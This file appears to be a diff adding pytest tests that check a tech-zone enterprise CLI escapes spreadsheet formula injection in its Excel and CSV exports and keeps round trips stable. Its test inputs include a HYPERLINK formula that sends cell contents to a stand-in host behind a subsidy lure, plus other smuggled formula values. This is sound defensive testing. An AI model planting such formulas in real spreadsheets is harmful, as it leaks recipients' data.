@@ -1,0 +1,194 @@
+"""Every file techzone writes keeps hostile text as text: no cell comes back as a formula.
+
+The demo's enterprises, parks and a 包抓联 department are renamed to what an attacker (or an
+unlucky officer) might type — ``=HYPERLINK(…)``, ``-3``, ``+1``, ``@SUM(…)`` —
+then every command that writes a workbook or CSV is run and its files are opened cell by cell.
+"""
+
+from __future__ import annotations
+
+import csv
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import select, update
+from typer.testing import CliRunner
+
+from techzone.cli import app
+from techzone.config import DATA_DIR_ENV
+from techzone.io.output import FORMULA_STARTS
+from techzone.model import Enterprise, Park, YearlyFigures
+from techzone.store import open_store
+
+runner = CliRunner()
+
+HOSTILE = (
+    '=HYPERLINK("http://example.invalid/?x="&A1,"点击领取奖补")',
+    "-3",
+    "+1+1",
+    "@SUM(1,2)",
+    "'=1+1",
+    "=1+1有限公司",
+)
+
+
+def _invoke(*arguments: str) -> str:
+    result = runner.invoke(app, list(arguments))
+    assert result.exit_code == 0, result.output
+    return result.output
+
+
+@pytest.fixture
+def hostile(data_dir: Path) -> Path:
+    _invoke("demo", "--enterprises", "60", "--seed", "3")
+    store = open_store()
+    with store.transaction() as session:
+        ids = session.scalars(select(Enterprise.id).order_by(Enterprise.id)).all()
+        for index, enterprise_id in enumerate(ids):
+            name = f"{HOSTILE[index % len(HOSTILE)]}#{index}" if index >= len(HOSTILE) else None
+            session.execute(
+                update(Enterprise)
+                .where(Enterprise.id == enterprise_id)
+                .values(name=name or HOSTILE[index])
+            )
+        for index, park_id in enumerate(session.scalars(select(Park.id).order_by(Park.id))):
+            session.execute(update(Park).where(Park.id == park_id).values(name=f"=园区{index}&A1"))
+        first = session.scalars(select(YearlyFigures.id).order_by(YearlyFigures.id)).first()
+        session.execute(
+            update(YearlyFigures)
+            .where(YearlyFigures.id == first)
+            .values(net_profit=Decimal("-3.00"))
+        )
+    store.dispose()
+    return data_dir
+
+
+def _cells(path: Path) -> list[tuple[object, str]]:
+    book = load_workbook(path)
+    return [
+        (cell.value, cell.data_type)
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    ]
+
+
+def _assert_no_formulas(path: Path, expect: str) -> None:
+    cells = _cells(path)
+    formulas = [value for value, kind in cells if kind == "f"]
+    assert formulas == [], f"{path.name}: {formulas[:3]}"
+    texts = [value for value, kind in cells if kind == "s" and isinstance(value, str)]
+    # The test would pass vacuously if the hostile text never reached the file.
+    assert any(expect in text for text in texts), f"{path.name} holds no {expect!r}"
+
+
+def test_every_workbook_keeps_hostile_text_as_text(hostile: Path, tmp_path: Path) -> None:
+    outputs = {
+        "export": tmp_path / "export.xlsx",
+        "assess": tmp_path / "assess.xlsx",
+        "awards": tmp_path / "awards.xlsx",
+        "budget": tmp_path / "budget.xlsx",
+        "lists": tmp_path / "lists.xlsx",
+        "weekly": tmp_path / "weekly.xlsx",
+        "summary": tmp_path / "summary.xlsx",
+        "evaluate": tmp_path / "evaluate.xlsx",
+    }
+    _invoke("export", "--out", str(outputs["export"]))
+    _invoke("assess", "--all", "--as-of", "2026-06-30", "--out", str(outputs["assess"]))
+    _invoke("awards", "--all", "--year", "2025", "--out", str(outputs["awards"]))
+    _invoke("budget", "--year", "2025", "--out", str(outputs["budget"]))
+    _invoke("lists", "--date", "2026-06-30", "--out", str(outputs["lists"]))
+    _invoke("summary", "--as-of", "2026-06-30", "--out", str(outputs["summary"]))
+    _invoke("zones", "evaluate", "--year", "2025", "--out", str(outputs["evaluate"]))
+    uscc = load_workbook(outputs["export"])["企业"]["A2"].value
+    _invoke(
+        "apply",
+        str(uscc),
+        "--qualification",
+        "高新技术企业",
+        "--year",
+        "2026",
+        "--department",
+        "=HYPERLINK(1)科技局",
+        "--by",
+        "@张三",
+        "--on",
+        "2026-07-01",
+    )
+    _invoke("report", "weekly", "--week", "2026-W36", "--out", str(outputs["weekly"]))
+    for name in ("export", "assess", "awards"):
+        _assert_no_formulas(outputs[name], HOSTILE[0])
+    for name in ("budget", "lists", "summary", "evaluate", "weekly"):
+        _assert_no_formulas(outputs[name], "=")
+    # Numbers stay numbers: the negative profit is a number cell, the company "-3" is text.
+    exported = _cells(outputs["export"])
+    assert (Decimal("-3"), "n") in [(Decimal(str(v)), k) for v, k in exported if k == "n"]
+    assert ("-3", "s") in exported
+
+
+def test_the_import_error_report_keeps_the_typed_value_as_text(
+    data_dir: Path, tmp_path: Path
+) -> None:
+    bad = tmp_path / "企业.csv"
+    bad.write_text(
+        "统一社会信用代码,企业名称,高新区代码,园区代码,成立日期,所有制,规上企业,上市状态\n"
+        "=1+1,=HYPERLINK(1),GS-BY,BY-01,2020-01-01,民营,否,未上市\n",
+        encoding="utf-8",
+    )
+    report = tmp_path / "report.xlsx"
+    result = runner.invoke(app, ["import", str(bad), "--errors", str(report)])
+    assert result.exit_code == 1
+    _assert_no_formulas(report, "=1+1")
+
+
+def test_the_extract_review_keeps_document_text_as_text(data_dir: Path, tmp_path: Path) -> None:
+    document = tmp_path / "policy.txt"
+    document.write_text(
+        "第一条 =HYPERLINK(1)对首次认定的高新技术企业，给予一次性奖励10万元。\n", encoding="utf-8"
+    )
+    review = tmp_path / "review.xlsx"
+    _invoke("extract", str(document), "--review", str(review))
+    _assert_no_formulas(review, "=HYPERLINK(1)")
+
+
+def _csv_cells(folder: Path) -> list[str]:
+    cells: list[str] = []
+    for path in sorted(folder.glob("*.csv")):
+        with path.open(encoding="utf-8-sig", newline="") as handle:
+            cells += [cell for row in csv.reader(handle) for cell in row]
+    return cells
+
+
+def test_csv_export_escapes_and_round_trips(
+    hostile: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    first, second = tmp_path / "first", tmp_path / "second"
+    _invoke("export", "--csv", "--out", str(first))
+    cells = _csv_cells(first)
+    starts = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    # Only numbers may begin with "-": a negative amount is written as a number.
+    assert all(Decimal(cell) < 0 for cell in starts), starts[:5]
+    assert "-3.00" in cells and "'-3" in cells and "''=1+1" in cells
+    monkeypatch.setenv(DATA_DIR_ENV, str(tmp_path / "again"))
+    _invoke("import", str(first))
+    _invoke("export", "--csv", "--out", str(second))
+    for path in sorted(first.glob("*.csv")):
+        assert path.read_bytes() == (second / path.name).read_bytes(), path.name
+
+
+def test_workbook_export_round_trips_hostile_names(
+    hostile: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    first, second = tmp_path / "first.xlsx", tmp_path / "second.xlsx"
+    _invoke("export", "--out", str(first))
+    monkeypatch.setenv(DATA_DIR_ENV, str(tmp_path / "again"))
+    _invoke("import", str(first))
+    _invoke("export", "--out", str(second))
+    one, two = load_workbook(first), load_workbook(second)
+    for name in one.sheetnames:
+        assert list(one[name].values) == list(two[name].values), name
+    names = [row[1] for row in two["企业"].iter_rows(min_row=2, values_only=True)]
+    assert set(HOSTILE) <= set(names)
